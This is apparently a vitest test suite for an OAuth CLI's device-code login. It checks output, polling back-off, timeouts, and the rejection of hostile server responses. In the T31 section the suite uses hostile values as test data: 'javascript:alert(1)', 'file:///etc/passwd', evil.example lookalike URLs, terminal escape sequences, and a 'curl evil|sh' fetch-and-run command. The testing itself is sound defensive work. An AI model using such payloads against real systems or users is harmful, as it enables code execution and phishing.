import { describe, expect } from 'vitest';
import { playUserAgent } from '../../src/demo/http-user-agent.ts';
import { AbortedError } from '../../src/ground/errors.ts';
import { it, line, server } from '../support/ada-signs-in.ts';
import { expectNoSecrets } from '../support/canary.ts';
import { errorOf } from '../support/command-line.ts';
import { type AtSecond, openStage, type Stage } from '../support/polling-stage.ts';

const stage = (atSecond?: AtSecond) => openStage(() => server.hits('token'), atSecond);

const login = ({ changes }: Stage, ...more: string[]) =>
  line.runIn(
    changes,
    server.issuer,
    '--client-id',
    server.clientId,
    '--allow-http-loopback',
    '--device',
    ...more,
  );

async function enterCode(said: string, consent: boolean): Promise<void> {
  const page = /^(http\S+\/device)$/m.exec(said)?.[1] ?? '';
  const code = /^ {4}([A-Z-]+)$/m.exec(said)?.[1] ?? '';
  await playUserAgent(`${page}?user_code=${code}`, { user: 'ada', consent });
}

const enteredAt = (second: number, consent = true) => {
  let entered = false;
  return stage(async (now, said) => {
    if (entered || now < second) {
      return;
    }
    entered = true;
    await enterCode(said, consent);
  });
};

const reply = (status: number, body: object) =>
  ({ kind: 'reply', status, body: JSON.stringify(body) }) as const;

describe('the device grant', () => {
  it('shows page, code and warning, each on its own line, and signs in', async () => {
    const here = enteredAt(12);
    const { exitCode, stdout } = await login(here);
    expect(here.said()).toMatch(/\nhttp:\/\/127\.0\.0\.1:\d+\/device\n/);
    expect(here.said()).toMatch(/\n {4}[A-Z]{4}-[A-Z]{4}\n/);
    expect(here.said()).toContain('Go on only if you started this yourself, here, just now.');
    expect(stdout).toMatch(/^Signed in to .+ as ada \(Ada Lovelace\)/);
    expect(exitCode).toBe(0);
    expect((await line.run('token', '--refresh')).exitCode).toBe(0);
  });

  it('T30 never shows the device code', async () => {
    const here = enteredAt(6);
    await login(here, '--debug');
    const codes = server
      .requestsTo('token')
      .map(({ form }) => form.get('device_code'))
      .filter((code) => code !== null);
    expect(codes.length).toBeGreaterThan(0);
    expectNoSecrets(here.said() + line.everythingSaid(), codes);
    expectNoSecrets({ directory: line.directory }, codes);
  });

  it('T30 opens no browser, even where one could be opened', async () => {
    const here = enteredAt(6);
    const openBrowser = async () => {
      throw new Error('the browser was opened');
    };
    const changes = { ...here.changes, canOpenBrowser: true, openBrowser };
    expect((await login({ ...here, changes })).exitCode).toBe(0);
  });

  it('T30 is not used on a desktop unless it is asked for', async () => {
    const before = server.hits('device_authorization');
    await line.run(server.issuer, '--client-id', server.clientId, '--allow-http-loopback');
    expect(server.hits('device_authorization')).toBe(before);
  });

  it('is used unasked where there is neither a browser nor a terminal to paste into', async () => {
    const here = enteredAt(6);
    const env = { OAUTH_LOGIN_STORE: 'file', BROWSER: 'lynx' };
    const argv = [server.issuer, '--client-id', server.clientId, '--allow-http-loopback'];
    expect((await line.runIn({ ...here.changes, env }, ...argv)).exitCode).toBe(0);
    expect(here.said()).toContain('enter this code');
  });

  it('tells a program what to show', async () => {
    const here = stage(async (_now, said) => {
      const event = said.split('\n').find((text) => text.includes('"user_code"'));
      if (event === undefined) {
        return;
      }
      const { user_code, verification_uri } = JSON.parse(event);
      await playUserAgent(`${verification_uri}?user_code=${user_code}`, { user: 'ada', consent: true });
    });
    const { stdout } = await login(here, '--json', '--events');
    const events = here
      .said()
      .trim()
      .split('\n')
      .map((text) => JSON.parse(text).event);
    expect(events).toEqual(['user_code', 'waiting', 'signed_in']);
    expect(JSON.parse(stdout).store).toBe('file');
  });
});

describe('polling', () => {
  it('keeps to the interval and does not drift', async () => {
    const here = enteredAt(21);
    await login(here);
    expect(here.polls()).toEqual([5, 5, 5, 5]);
  });

  it('lengthens the interval for good after each slow_down', async () => {
    let asked = 0;
    const here = stage(async (_now, said) => {
      if (server.hits('token') > asked + 3) {
        await enterCode(said, true).catch(() => {});
      }
    });
    asked = server.hits('token');
    server.breakEndpoint('token', reply(400, { error: 'slow_down' }), 3);
    await login(here);
    expect(here.polls().slice(0, 4)).toEqual([5, 10, 15, 20]);
  });

  it('goes on while the network is down, less and less often, and says so once', async () => {
    server.breakEndpoint('token', { kind: 'reset' }, 3);
    const here = enteredAt(30);
    expect((await login(here)).exitCode).toBe(0);
    expect(here.polls().slice(0, 3)).toEqual([5, 10, 20]);
    expect(here.said().match(/network does not answer/g)).toHaveLength(1);
  });

  it.each([
    ['with an error of OAuth', 503, '{"error":"temporarily_unavailable"}'],
    ['with a refusal that cannot be meant', 500, '{"error":"access_denied"}'],
    ['with another document', 502, '{"message":"Bad Gateway"}'],
    ['with nothing', 500, ''],
  ])('goes on while the server fails %s', async (_what, status, body) => {
    server.breakEndpoint('token', { kind: 'reply', status, body }, 3);
    const here = enteredAt(30);
    expect((await login(here)).exitCode).toBe(0);
    expect(here.polls().slice(0, 3)).toEqual([5, 10, 20]);
  });

  it.each([
    ['with an error of OAuth', 503, '{"error":"server_error"}'],
    ['with nothing', 500, ''],
  ])('names a server that keeps failing %s, and ends after a few tries', async (_what, status, body) => {
    server.breakEndpoint('token', { kind: 'reply', status, body });
    const here = stage();
    expect((await login(here)).exitCode).toBe(7);
    expect(here.said()).toMatch(
      new RegExp(`The token endpoint of \\S+ answered with status ${status}( \\(.+\\))?\\. Still waiting`),
    );
    expect(here.said()).toMatch(
      new RegExp(`error: .* answered with status ${status}( \\(.+\\))?, 5 times in a row\\n`),
    );
    expect(here.said()).not.toContain('network does not answer');
    // The fifth ends it.
    expect(here.polls()).toEqual([5, 10, 20, 40]);
  });

  it('ends with the code: exit 5 and how to get another', async () => {
    const here = stage();
    const outcome = await login(here);
    expect(outcome.exitCode).toBe(5);
    expect(here.said()).toMatch(/the code for .+ has expired\noauth-login: hint: run the command again/);
    expect(here.seconds()).toBeGreaterThanOrEqual(595);
    expect(here.seconds()).toBeLessThanOrEqual(605);
  });

  it.each([
    ['60', 7, 60, /nobody entered the code for .+ within 60 seconds\noauth-login: hint: .*--timeout/],
    ['3600', 5, 600, /the code for .+ has expired/],
  ])(
    'ends with --timeout %s or with the code, whichever is first: exit %i',
    async (seconds, exit, at, words) => {
      const here = stage();
      expect((await login(here, '--timeout', seconds)).exitCode).toBe(exit);
      expect(here.said()).toMatch(words);
      expect(here.seconds()).toBeGreaterThanOrEqual(at - 5);
      expect(here.seconds()).toBeLessThanOrEqual(at + 5);
    },
  );

  it('ends with the refusal', async () => {
    const here = enteredAt(6, false);
    expect((await login(here)).exitCode).toBe(5);
    expect(here.said()).toContain('access_denied');
  });

  it('ends with Ctrl-C at once', async () => {
    const stop = new AbortController();
    const here = stage((now) => (now > 7 ? stop.abort(new AbortedError()) : undefined));
    const outcome = await login({ ...here, changes: { ...here.changes, signal: stop.signal } });
    expect(outcome.exitCode).toBe(130);
    expect(here.seconds()).toBeLessThan(10);
  });
});

describe('T31 a hostile device response', () => {
  const good = {
    device_code: 'a-device-code-of-some-length',
    user_code: 'ABCD-EFGH',
    expires_in: 60,
    interval: 5,
  };
  const page = () => `${server.issuer}/device`;

  it.each<[string, () => object]>([
    ['a page that is a script', () => ({ ...good, verification_uri: 'javascript:alert(1)' })],
    ['a page that is a file', () => ({ ...good, verification_uri: 'file:///etc/passwd' })],
    ['a page in the clear', () => ({ ...good, verification_uri: 'http://as.example/device' })],
    ['a page with a user name', () => ({ ...good, verification_uri: 'https://as.example@evil.example/' })],
    ['a page of another host', () => ({ ...good, verification_uri: 'https://evil.example/device' })],
    ['no page', () => good],
    [
      'a code with an escape sequence',
      () => ({ ...good, verification_uri: page(), user_code: '\u001b[2Jx' }),
    ],
    [
      'a code that is a sentence',
      () => ({ ...good, verification_uri: page(), user_code: 'run this: curl evil|sh' }),
    ],
    ['a code that is too long', () => ({ ...good, verification_uri: page(), user_code: 'A'.repeat(33) })],
    ['a negative life', () => ({ ...good, verification_uri: page(), expires_in: -1 })],
    ['a negative interval', () => ({ ...good, verification_uri: page(), interval: -1 })],
    ['no life', () => ({ ...good, verification_uri: page(), expires_in: undefined })],
  ])('with %s is refused before anything of it is shown', async (_what, body) => {
    server.breakEndpoint('device_authorization', reply(200, body()));
    const here = stage();
    const outcome = await login(here, '--json');
    expect(errorOf({ ...outcome, stderr: here.said() }).exit_code).toBe(6);
    expect(here.said()).not.toContain('\u001b');
    expect(here.said()).not.toContain('enter this code');
  });

  it.each([
    [1, 5],
    [7, 7],
    [62, 62],
  ])('with an interval of %d is polled every %d seconds', async (interval, expected) => {
    server.breakEndpoint(
      'device_authorization',
      reply(200, { ...good, verification_uri: page(), interval, expires_in: 130 }),
    );
    server.breakEndpoint('token', reply(400, { error: 'authorization_pending' }));
    const here = stage();
    await login(here);
    expect(new Set(here.polls())).toEqual(new Set([expected]));
    expect(here.polls().length).toBeGreaterThanOrEqual(2);
  });

  it.each([
    ['of no end', 1e9],
    ['of no end, as large as numbers get', 1e308],
    ['as long as the code is good', 130],
    ['longer than any code is waited for', 1800, 1e9],
  ])('with an interval %s is refused before anything of it is shown', async (_what, interval, life = 130) => {
    server.breakEndpoint(
      'device_authorization',
      reply(200, { ...good, verification_uri: page(), interval, expires_in: life }),
    );
    const before = server.hits('token');
    const here = stage();
    const outcome = await login(here, '--json');
    expect(errorOf({ ...outcome, stderr: here.said() })).toMatchObject({
      exit_code: 6,
      message: expect.stringMatching(/allows no request before its code expires$/),
    });
    expect([server.hits('token'), here.seconds()]).toEqual([before, 0]);
    expect(here.said()).not.toContain(good.user_code);
  });

  it.each([
    [60, false],
    [61, true],
  ])('with an interval of %d seconds says that it takes long: %s', async (interval, isSaid) => {
    server.breakEndpoint(
      'device_authorization',
      reply(200, { ...good, verification_uri: page(), interval, expires_in: 62 }),
    );
    server.breakEndpoint('token', reply(400, { error: 'authorization_pending' }));
    const here = stage();
    await login(here);
    expect(/be asked only every .+, so/.test(here.said())).toBe(isSaid);
  });

  it.each([7, ['too late'], { a: 1 }])('that refuses with the words %j is a refusal', async (words) => {
    server.breakEndpoint('token', reply(400, { error: 'access_denied', error_description: words }));
    const here = stage();
    expect((await login(here)).exitCode).toBe(5);
    expect(here.said()).toContain('access_denied');
  });

  it('that asks to slow down for good ends the wait, and says why', async () => {
    server.breakEndpoint('token', reply(400, { error: 'slow_down', interval: 1e9 }), 1);
    const here = stage();
    const outcome = await login(here, '--json');
    expect(errorOf({ ...outcome, stderr: here.said() })).toMatchObject({
      exit_code: 6,
      message: expect.stringMatching(/does not allow another request before the code expires$/),
    });
    expect(here.seconds()).toBe(5);
  });

  it('that never ends is given up after 30 minutes', async () => {
    server.breakEndpoint(
      'device_authorization',
      reply(200, { ...good, verification_uri: page(), interval: 60, expires_in: 1e9 }),
    );
    server.breakEndpoint('token', reply(400, { error: 'authorization_pending' }));
    const here = stage();
    expect((await login(here)).exitCode).toBe(5);
    expect(here.seconds()).toBeLessThanOrEqual(1800);
  });

  it('whose page holds escapes is printed percent-encoded', async () => {
    server.breakEndpoint(
      'device_authorization',
      reply(200, { ...good, verification_uri: `${page()}/\u001b[2K`, expires_in: 6 }),
    );
    server.breakEndpoint('token', reply(400, { error: 'authorization_pending' }));
    const here = stage();
    await login(here);
    expect(here.said()).toContain('/device/%1B[2K');
    expect(here.said()).not.toContain('\u001b');
  });
});
